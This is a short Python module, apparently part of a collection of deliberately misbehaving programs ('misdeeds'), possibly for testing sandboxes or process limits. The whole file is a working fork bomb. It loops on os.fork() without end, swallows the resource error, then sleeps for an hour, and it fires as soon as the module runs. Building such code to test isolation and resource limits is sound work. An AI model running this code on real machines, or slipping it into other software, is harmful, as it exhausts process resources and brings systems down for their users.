"""Starts processes that start processes, as many as it may."""

import os
import time
from contextlib import suppress

from .misdeeds import HOUR, play_and


def bomb() -> None:
    with suppress(BlockingIOError):
        while True:
            os.fork()
    time.sleep(HOUR)


play_and(bomb)
